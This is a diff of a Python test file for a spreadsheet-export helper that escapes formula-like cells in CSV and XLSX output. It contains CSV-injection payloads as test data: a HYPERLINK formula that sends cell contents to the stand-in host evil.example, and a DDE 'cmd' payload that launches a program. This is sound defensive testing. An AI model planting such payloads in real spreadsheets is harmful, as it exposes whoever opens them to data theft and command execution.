@@ -1,28 +1,83 @@
-"""The shared table export: formula-looking text is escaped in CSV and XLSX alike, numbers stay numbers,
-CSV is UTF-8 with a BOM, and the XLSX opens with openpyxl holding the same rows as the CSV."""
+"""The shared spreadsheet-export helper (issue #11, item 9): cells that a spreadsheet would run as
+formulas are escaped, everything else is written as it is — in CSV and, for the dashboards' page tables,
+in XLSX with the same rows (numbers stay numbers, text is never a formula)."""
 
 from __future__ import annotations
 
 import csv
 import io
-from datetime import date
+from datetime import UTC, date, datetime
 
 import pytest
 from openpyxl import load_workbook
 
-from qa_app.web.export import Column, Table, csv_bytes, escape_cell, filename, send, xlsx_bytes
+from qa_app.web.exports import (
+    FORMULA_START,
+    Column,
+    Table,
+    csv_bytes,
+    escape_cell,
+    escape_row,
+    filename,
+    send,
+    xlsx_bytes,
+)
 
-DANGEROUS = ["=1+2", "+86 138", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", '=HYPERLINK("http://x","点我")']
 
-
-@pytest.mark.parametrize("text", DANGEROUS)
-def test_formula_text_is_prefixed_with_a_quote(text):
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+        "+86 138 0000 0000",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "=",
+        "=cmd|' /C calc'!A0",
+    ],
+)
+def test_formula_starts_are_escaped(text):
     assert escape_cell(text) == "'" + text
 
 
-@pytest.mark.parametrize("value", ["张伟", "a=b", "", " =x", "100%", 3, -3.5, 0.0, None, date(2026, 3, 2)])
-def test_other_values_are_untouched(value):
+@pytest.mark.parametrize(
+    "value", ["您好，很高兴为您服务", "agent 1021", " =1+1", "'=already", "", "a=b", "1-2"]
+)
+def test_ordinary_text_is_unchanged(value):
     assert escape_cell(value) == value
+
+
+@pytest.mark.parametrize("value", [-5, 3.5, -0.25, 0, None, True, date(2026, 11, 29)])
+def test_numbers_dates_and_none_stay_as_they_are(value):
+    assert escape_cell(value) is value
+
+
+def test_every_formula_start_is_covered():
+    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}
+    assert escape_row(["=a", 1, "b", None, "@c"]) == ["'=a", 1, "b", None, "'@c"]
+
+
+def test_csv_bytes_escapes_header_and_cells_and_reads_back():
+    data = csv_bytes(
+        ["坐席", "=header", "得分", "时间"],
+        [
+            ['=HYPERLINK("x")', "普通文本, 含逗号", -12.5, datetime(2026, 11, 29, 9, 30, tzinfo=UTC)],
+            ["@agent", '引号"内容"', None, date(2026, 11, 30)],
+        ],
+    )
+    assert data.startswith("\ufeff".encode()) and b"\r\n" in data
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    assert rows[0] == ["坐席", "'=header", "得分", "时间"]
+    assert rows[1] == ['\'=HYPERLINK("x")', "普通文本, 含逗号", "-12.5", "2026-11-29 09:30:00+00:00"]
+    assert rows[2] == ["'@agent", '引号"内容"', "", "2026-11-30"]
+
+
+def test_csv_without_bom():
+    assert csv_bytes(["a"], [["+1"]], bom=False) == b"a\r\n'+1\r\n"
+
+
+# --- page tables (dashboards) ----------------------------------------------------------------------------
 
 
 def _table() -> Table:
@@ -49,8 +104,8 @@ def _csv_rows(data: bytes) -> list[list[str]]:
     return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
 
 
-def test_csv_escapes_text_and_keeps_numbers():
-    rows = _csv_rows(csv_bytes(_table()))
+def test_a_page_table_as_csv_escapes_text_and_keeps_numbers():
+    rows = _csv_rows(_table().csv())
     assert rows[0] == ["坐席 Agent", "n", "Gap (pp)", "Week", "'=label"]
     assert rows[1] == ["1001 张伟", "40", "-3.2", "2026-03-02", "ok"]
     assert rows[2][0] == '\'=HYPERLINK("http://evil")' and rows[2][4] == "'-2+3"
@@ -81,7 +136,7 @@ def test_xlsx_opens_and_has_the_same_rows_as_the_csv():
     assert ws.title == "Agents  gaps  test    坐席"[:31]
     assert ws.freeze_panes == "A2"
     got = [[_same(_xlsx_text(c)) for c in row] for row in ws.iter_rows(values_only=True)]
-    assert got == [[_same(c) for c in row] for row in _csv_rows(csv_bytes(table))]
+    assert got == [[_same(c) for c in row] for row in _csv_rows(table.csv())]
     # numbers are numbers, escaped text is text and never a formula
     assert ws["B2"].value == 40 and ws["C2"].value == -3.2
     assert ws["A3"].data_type == "s" and ws["A3"].value.startswith("'=")
